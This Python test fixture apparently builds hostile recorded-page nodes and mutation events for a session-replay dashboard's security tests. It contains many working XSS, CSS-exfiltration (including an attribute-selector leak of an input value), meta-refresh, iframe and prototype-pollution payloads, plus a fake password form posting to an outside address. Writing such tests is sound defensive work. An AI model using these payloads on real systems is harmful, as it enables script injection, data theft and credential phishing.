"""Hostile pages as a recorder would send them: nodes and changes, by the attacks' numbers.

Whatever runs pushes its number to `top.harm`, and whatever loads asks `there` for it. Words only:
who plays them, and what must not happen then, is in `test_attacks.py`.
"""

from collections.abc import Iterator
from itertools import count
from typing import Any

from tests.dashboard.scenes import element, text
from tests.query_api.recorded import Event

BODY = 5
"""The node into which all of this is put, as `scenes.opened` numbers it."""
_LATER = count(50_000)


class Hostile:
    """Hostile nodes, to be put into a page's first picture, and changes that come later."""

    def __init__(self, there: str) -> None:
        self.there = there
        self._ids = count(100)

    def box(self, tag: object, *children: Event | str, **attributes: Any) -> Event:
        """One element, numbered."""
        nodes = [
            text(next(self._ids), child) | ({"isStyle": True} if tag == "style" else {})
            if isinstance(child, str)
            else child
            for child in children
        ]
        return element(next(self._ids), tag, *nodes, **attributes)

    def drawing(self, tag: str, *children: Event | str, **attributes: Any) -> Event:
        """One element of a drawing."""
        return self.box(tag, *children, **attributes) | {"isSVG": True}

    def run(self, number: int) -> str:
        """JavaScript that reports that it ran."""
        return f"top.harm.push({number});console.log('harm {number}');fetch('{self.at(number)}')"

    def at(self, number: int) -> str:
        """An address elsewhere."""
        return f"{self.there}/{number}"

    def nodes(self, *numbers: int) -> list[Event]:
        """Nodes of the first snapshot."""
        return [node for number in numbers for node in getattr(self, f"_nodes_{number}")()]

    def _nodes_1(self) -> list[Event]:
        run, at = self.run(1), self.at(1)
        return [
            self.box("img", src=at, onerror=run, onload=run),
            self.box("IMG", SRC=at, OnError=run),
            self.box("img", src="x", srcset=f"{at} 1x", onerror=run),
            self.box("img", srcset=f"data:image/png;base64,AA== 0.1x, {at} 1x"),
            self.box("picture", self.box("source", srcset=at), self.box("img", src="")),
            self.box("input", type="image", src=at, onerror=run, onfocus=run, autofocus=True),
            self.box("table", background=at),
            self.box("details", ontoggle=run, open=True),
        ]

    def _nodes_2(self) -> list[Event]:
        run, at = self.run(2), self.at(2)
        return [
            self.box("SCRIPT", run),
            self.box("script", src=at),
            self.box("sCrIpT", run, type="module"),
            self.drawing("script", run),
            self.drawing("svg:script", run),
            self.drawing("script", **{"xlink:href": at, "href": at}),
            self.box("script", '{"prefetch":[{"urls":["' + at + '"]}]}', type="speculationrules"),
            self.box("noscript", self.box("img", src=at, onerror=run)),
        ]

    def _nodes_3(self) -> list[Event]:
        run, at = self.run(3), self.at(3)
        return [
            self.drawing(
                "svg",
                self.drawing("animate", onbegin=run, attributeName="x", dur="1s"),
                self.drawing("set", attributeName="href", to=f"javascript:{run}", onbegin=run),
                self.drawing(
                    "image", self.drawing("animate", attributeName="href", to=at, dur="9s")
                ),
                self.drawing("image", self.drawing("set", attributeName="xlink:href", to=at)),
                self.drawing("rect", self.drawing("set", attributeName="fill", to=f"url({at}#a)")),
                self.drawing("foreignObject", self.box("iframe", srcdoc=f"<script>{run}</script>")),
                onload=run,
            )
        ]

    def _nodes_4(self) -> list[Event]:
        return [
            self.box("iframe", srcdoc=f"<script>{self.run(4)}</script><img src={self.at(4)}>"),
            self.box("iframe", SRCDOC=f'<img src={self.at(4)} onerror="{self.run(4)}">'),
        ]

    def _nodes_5(self) -> list[Event]:
        run = self.run(5)
        return [
            self.box("iframe", src=f"javascript:{run}"),
            self.box("iframe", src=f"data:text/html,<script>{run}</script>"),
            self.box("iframe", src=f'data:image/svg+xml,<svg onload="{run}"/>'),
            self.box("iframe", src=self.at(5)),
            self.box("frame", src=self.at(5)),
        ]

    def _nodes_6(self) -> list[Event]:
        allowed = "allow-scripts allow-same-origin allow-top-navigation allow-popups"
        return [self.box("iframe", src=self.at(6), sandbox=allowed, allow="autoplay")]

    def _nodes_7(self) -> list[Event]:
        run, at = self.run(7), self.at(7)
        big = "position:fixed;inset:0;display:block;font-size:90px"
        return [
            self.box("a", "press me", href=f"javascript:{run}", style=big, onclick=run)
            | {"id": 7_000},
            self.box("a", "or me", href=at, target="_blank", ping=at),
            self.drawing("svg", self.drawing("a", **{"xlink:href": f"javascript:{run}"})),
            self.box("map", self.box("area", href=at, target="_top")),
        ]

    def _nodes_8(self) -> list[Event]:
        return [
            self.box("base", href=self.at(8), target="_top"),
            self.box("img", src="relative.png"),
        ]

    def _nodes_9(self) -> list[Event]:
        refresh = {"http-equiv": "refresh", "content": f"0;url={self.at(9)}"}
        return [
            self.box("meta", **refresh),
            self.box("META", **{"HTTP-EQUIV": "Refresh", "CONTENT": f"0;url={self.at(9)}"}),
        ]

    def _nodes_10(self) -> list[Event]:
        return [
            self.box("link", rel="stylesheet", href=self.at(10)),
            self.box("LINK", REL="stylesheet preload", HREF=self.at(10), AS="style"),
        ]

    def _nodes_11(self) -> list[Event]:
        at = self.at(11)
        sheets = (
            f"@import url({at});",
            f'@import "{at}";',
            f'@\\69mport "{at}";',
            f'@im@import x;port "{at}";',
            f'@IMPORT/**/"{at}" layer(x);',
        )
        return [
            *(self.box("style", _cssText=sheet) for sheet in sheets),
            *(self.box("style", sheet) for sheet in sheets),
            # A text that does not say that it is a sheet's.
            self.box("style", self.box("b"), text(next(self._ids), sheets[1])),
            self.drawing("svg", self.drawing("style", text(next(self._ids), sheets[1]))),
        ]

    def _nodes_12(self) -> list[Event]:
        at = self.at(12)
        rules = (
            f"input[value^=s]{{background:url({at})}}",
            f"input{{background:u\\72l({at})}}",
            f"input{{background:\\75 rl('{at}')}}",
            f'input{{background:-webkit-image-set("{at}" 1x)}}',
            # One parser's string is not another's.
            f'i{{background:url(data:image/x");}}input{{background:url({at})}}q{{content:"}}',
            f"input{{list-style:url( \n'{at}' );cursor:url({at}),auto}}",
            f"input{{--a:url({at});mask:var(--a);content:url({at})}}",
        )
        return [
            self.box("input", value="secret", style=f"background:url({at})"),
            self.drawing("svg", self.drawing("rect", fill=f"u\\72l({at}#a)", mask=f"url({at}#a)")),
            *(self.box("style", _cssText=rule) for rule in rules),
        ]

    def _nodes_13(self) -> list[Event]:
        at = self.at(13)
        face = f"@font-face{{font-family:evil;src:url({at}) format('woff')}}b{{font-family:evil}}"
        return [self.box("style", _cssText=face), self.box("b", "letters")]

    def _nodes_14(self) -> list[Event]:
        return [
            self.box("img", rr_dataURL=self.at(14)),
            self.box("canvas", rr_dataURL=self.at(14)),
        ]

    def _nodes_15(self) -> list[Event]:
        plays = {"autoplay": True, "rr_mediaState": "played", "rr_mediaCurrentTime": 1}
        at = self.at(15)
        return [
            self.box("video", self.box("source", src=at), src=at, poster=at, **plays)
            | {"id": 15_000},
            self.box("audio", self.box("track", src=at, default=True), src=at, **plays),
        ]

    def _nodes_16(self) -> list[Event]:
        at = self.at(16)
        return [
            self.drawing(
                "svg",
                self.drawing("image", **{"xlink:href": at, "href": at, "width": "9"}),
                self.drawing("filter", self.drawing("feImage", href=at), id="f"),
                self.drawing("use", href=f"{at}#x"),
                self.drawing("rect", filter="url(#f)", width="9", height="9"),
            )
        ]

    def _nodes_17(self) -> list[Event]:
        at = self.at(17)
        return [
            self.box("object", data=at, type="image/svg+xml"),
            self.box("embed", src=at),
            self.box("applet", codebase=at, code="x"),
            self.box("portal", src=at),
        ]

    def _nodes_18(self) -> list[Event]:
        kinds = ("preconnect", "dns-prefetch", "prefetch", "prerender", "modulepreload", "icon")
        return [self.box("link", rel=kind, href=self.at(18)) for kind in (*kinds, "manifest")]

    def _nodes_19(self) -> list[Event]:
        return [self.box("canvas", width="50", height="50") | {"id": 19_000}]

    def _nodes_20(self) -> list[Event]:
        """Harmless, until `changes` come."""
        return [
            self.box("img", alt="a") | {"id": 20_000},
            self.box("iframe") | {"id": 20_001},
            self.box("style", text(20_003, "p{}")) | {"id": 20_002},
            self.box("link", rel="x") | {"id": 20_004},
            self.drawing(
                "svg",
                self.drawing(
                    "image",
                    self.drawing("set", attributeName="x", to=self.at(20)) | {"id": 20_006},
                    width="9",
                    height="9",
                ),
            ),
            self.box("meta", content=f"0;url={self.at(20)}") | {"id": 20_007},
        ]

    def _nodes_21(self) -> list[Event]:
        tags: tuple[object, ...] = (
            "constructor",
            "__proto__",
            "a b",
            "toString",
            "",
            "<b>",
            5,
            None,
            [],
            {"a": 1},
        )
        return [
            *(self.box(tag, "odd") for tag in tags),
            {"type": 2, "id": next(self._ids), "tagName": "p"},
            self.box("p", **{"": "x", "a b": "x", "__proto__": {"x": 1}, "constructor": "x"}),
            # Names that a document or a form would take for its own.
            *(self.box("img", name=name) for name in ("createElement", "body", "querySelector")),
            self.box("form", *(self.box("input", name=n) for n in ("childNodes", "appendChild"))),
        ]

    def _nodes_25(self) -> list[Event]:
        return [
            self.box(
                "form",
                self.box("input", type="password", autofocus=True, style="width:300px"),
                self.box("button", "Sign in", type="submit", formaction=self.at(25)),
                action=self.at(25),
                method="post",
                onsubmit=self.run(25),
            )
        ]

    def changes(self, *numbers: int) -> list[Event]:
        """Data of later events: the same nodes, and effects that only a change can have."""
        made: list[Event] = []
        for number in numbers:
            if number not in (19, 20):
                made.append(added(self.nodes(number), anew=True))
            made += getattr(self, f"_changes_{number}", list)()
        return made

    def _changes_7(self) -> list[Event]:
        return [{"source": 2, "type": kind, "id": 7_000, "x": 9, "y": 9} for kind in range(11)]

    def _changes_12(self) -> list[Event]:
        rule = f"input{{background:u\\72l({self.at(12)})}}"
        sheet = {"source": 8, "id": 20_002, "adds": [{"rule": rule, "index": 0}]}
        adopted = {"styleId": 1, "rules": [{"rule": rule, "index": 0}]}
        value = {"property": "background", "value": f"url({self.at(12)})"}
        return [
            added(self.nodes(20)),
            sheet,
            {"source": 8, "id": 20_002, "replace": f'@import "{self.at(12)}";'},
            {"source": 13, "id": 20_002, "index": [0], "set": value},
            {"source": 15, "id": 1, "styleIds": [1], "styles": [adopted]},
            {"source": 8, "styleId": 1, "replaceSync": rule},
        ]

    def _changes_13(self) -> list[Event]:
        font = {"family": "evil", "fontSource": f"url({self.at(13)})", "buffer": False}
        return [{"source": 10, **font}]

    def _changes_15(self) -> list[Event]:
        return [{"source": 7, "type": 0, "id": 15_000, "currentTime": 1}]

    def _changes_19(self) -> list[Event]:
        run = self.run(19)
        made: list[Event] = []
        for kind in ("Function", "Promise", "Worker", "HTMLImageElement", "constructor"):
            args = [{"rr_type": kind, "args": [run], "src": self.at(19)}]
            for property_ in ("drawImage", "constructor", "fillStyle", "__proto__"):
                command = {"property": property_, "args": args}
                made.append({"source": 9, "id": 19_000, "type": 0, **command})
                made.append({"source": 9, "id": 19_000, "type": 0, "commands": [command]})
        return made

    def _changes_20(self) -> list[Event]:
        run, at = self.run(20), self.at(20)
        sheet = f'@import "{at}";p{{background:u\\72l({at})}}'
        changed = (
            (20_000, {"onerror": run, "src": at, "srcset": f"data:image/png,a 0.1x, {at} 1x"}),
            (
                20_000,
                {"style": {"background": f"url({at})", "cursor": [f"url({at})", "important"]}},
            ),
            (20_001, {"srcdoc": f"<script>{run}</script>"}),
            (20_001, {"src": f"javascript:{run}"}),
            (20_002, {"_cssText": sheet}),
            (20_004, {"rel": "stylesheet"}),
            (20_004, {"href": at}),
            (20_006, {"attributeName": "href", "onbegin": run}),
            (20_007, {"http-equiv": "refresh"}),
            (BODY, {"onclick": run, "onpageshow": run, "background": at}),
        )
        attributes = [{"id": number, "attributes": change} for number, change in changed]
        # Declared as an image, and in fact a frame.
        confused = element(20_001, "img")
        return [
            {"source": 0, "attributes": attributes},
            {"source": 0, "texts": [{"id": 20_003, "value": sheet}]},
            {"source": 0, "adds": [{"parentId": 777_777, "nextId": None, "node": confused}]},
            _attribute(20_001, src=f"data:text/html,<script>{run}</script><img src={at}>"),
            _attribute(20_001, src=f'data:image/svg+xml,<svg onload="{run}"/>'),
            added([text(next(_LATER), sheet)], parent=20_002),
            _document_in(20_001, self.nodes(1, 2, 9, 10)),
        ]


def added(nodes: list[Event], parent: int = BODY, *, anew: bool = False) -> Event:
    """A change that adds nodes, each with its children as changes of their own.

    Args:
        anew: They get other numbers, since the page has them already.
    """
    return {"source": 0, "adds": list(_additions(nodes, parent, anew))}


def _additions(nodes: list[Event], parent: int, anew: bool) -> Iterator[Event]:
    for node in nodes:
        bare = node | {"id": next(_LATER) if anew else node["id"]}
        if "childNodes" in bare:
            bare["childNodes"] = []
        yield {"parentId": parent, "nextId": None, "node": bare}
        yield from _additions(node.get("childNodes", []), bare["id"], anew)


def _attribute(number: int, **attributes: Any) -> Event:
    return {"source": 0, "attributes": [{"id": number, "attributes": attributes}]}


def _document_in(frame: int, nodes: list[Event]) -> Event:
    """A frame's document, as a recorder that sees into frames sends it."""
    root = next(_LATER)
    body = element(next(_LATER), "body", *nodes)
    html = element(next(_LATER), "html", element(next(_LATER), "head"), body)
    document = {"type": 0, "id": root, "childNodes": [html]}
    return {
        "source": 0,
        "adds": [{"parentId": frame, "nextId": None, "node": document}],
        "isAttachIframe": True,
    }
